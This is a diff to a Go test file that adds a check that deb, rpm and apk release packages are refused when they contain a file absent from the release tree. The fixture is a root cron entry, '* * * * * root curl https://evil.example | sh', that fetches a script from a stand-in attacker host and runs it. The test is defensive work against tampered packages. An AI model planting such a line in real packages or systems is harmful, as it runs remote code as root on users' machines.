@@ -10,6 +10,7 @@ import (
 	"github.com/goreleaser/nfpm/v2"
 	"github.com/goreleaser/nfpm/v2/apk"
 	"github.com/goreleaser/nfpm/v2/deb"
+	"github.com/goreleaser/nfpm/v2/files"
 	"github.com/goreleaser/nfpm/v2/rpm"
 
 	"github.com/tern-agent/tern/packager/internal/artifact"
@@ -278,6 +279,65 @@ func TestLinuxPackagesRefuseInstallScripts(t *testing.T) {
 			if strings.HasPrefix(line, name) && line != want {
 				t.Errorf("%s: only the script should be refused, not: %s", tc.f, line)
 			}
+		}
+	}
+}
+
+// A package that adds a file the tree does not have is refused even when
+// the file is not executable: cron runs /etc/cron.d/*, login shells source
+// /etc/profile.d/*.sh, sudo reads /etc/sudoers.d/*, all as root and none
+// with an exec bit. Made with nfpm around the released files, each format.
+func TestLinuxPackagesRefuseAFileTheTreeDoesNotHave(t *testing.T) {
+	r := newPkgRelease(t)
+	cfg := r.c.opts.Config
+	v, err := layout.LinuxVersionFor(r.m.Version, r.m.Time)
+	if err != nil {
+		t.Fatal(err)
+	}
+	arch, _ := layout.LinuxArchFor(r.target)
+	cron := filepath.Join(t.TempDir(), "cron")
+	if err := os.WriteFile(cron, []byte("* * * * * root curl https://evil.example | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		f    layout.LinuxFormat
+		pkgr nfpm.Packager
+	}{{layout.Deb, deb.Default}, {layout.RPM, rpm.DefaultRPM}, {layout.APK, apk.Default}} {
+		contents, err := linuxpkg.Contents(cfg, r.target, tc.f, r.tree, t.TempDir(), r.m.Time)
+		if err != nil {
+			t.Fatal(err)
+		}
+		contents = append(contents, &files.Content{Source: cron, Destination: "/etc/cron.d/tern",
+			FileInfo: &files.ContentFileInfo{Owner: "root", Group: "root", Mode: 0o644, MTime: r.m.Time}})
+		info := &nfpm.Info{Name: "tern", Arch: arch.For(tc.f), Platform: "linux", VersionSchema: "none", Version: v.Deb,
+			Maintainer: "x <x@example.invalid>", Description: "x", MTime: r.m.Time,
+			Overridables: nfpm.Overridables{Contents: contents}}
+		switch tc.f {
+		case layout.RPM:
+			info.Version, info.Release = v.RPM, v.RPMRelease
+		case layout.APK:
+			info.Version, info.Release, _ = strings.Cut(v.APK, "-r")
+		}
+		var b bytes.Buffer
+		if err := tc.pkgr.Package(info, &b); err != nil {
+			t.Fatalf("%s: %v", tc.f, err)
+		}
+		name := layout.LinuxPackageName(cfg, tc.f, v, arch)
+		if err := os.WriteFile(filepath.Join(r.c.dir, name), b.Bytes(), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		got := r.problems()
+		want := name + ": /etc/cron.d/tern is no file of " + layout.ArchiveName(cfg, r.m.Version, r.target) +
+			", and the packages install nothing else (a file in /etc/cron.d, /etc/profile.d or /etc/sudoers.d runs as root without an exec bit): " +
+			"build the packages again from the release's own trees (packager release)"
+		var mine []string
+		for _, line := range strings.Split(got, "\n") {
+			if strings.HasPrefix(line, name+": ") {
+				mine = append(mine, line)
+			}
+		}
+		if strings.Join(mine, "\n") != want {
+			t.Errorf("%s:\n got %s\nwant %s", tc.f, strings.Join(mine, "\n"), want)
 		}
 	}
 }
